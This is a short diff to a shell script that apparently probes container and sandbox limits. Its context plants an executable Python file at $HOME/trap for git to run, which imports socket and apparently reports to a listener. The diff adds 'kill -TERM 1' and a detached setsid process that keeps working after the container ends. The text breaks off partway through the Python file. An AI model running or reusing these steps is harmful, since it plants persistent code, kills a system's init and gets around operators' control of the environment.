@@ -1,5 +1,8 @@
 # Leaves a program wherever a careless git would run it. It tells the story's listener where it ran.
 set -eu
+# Announces the end of the container in the kubelet's name, and leaves somebody behind who works on when it is over.
+kill -TERM 1
+setsid sh -c 'while kill -0 '$$' 2>/dev/null; do sleep 0.1; done; sleep 0.5; echo late > late.txt' &
 cat > "$HOME/trap" <<'END'
 #!/usr/bin/env python3
 import os, socket
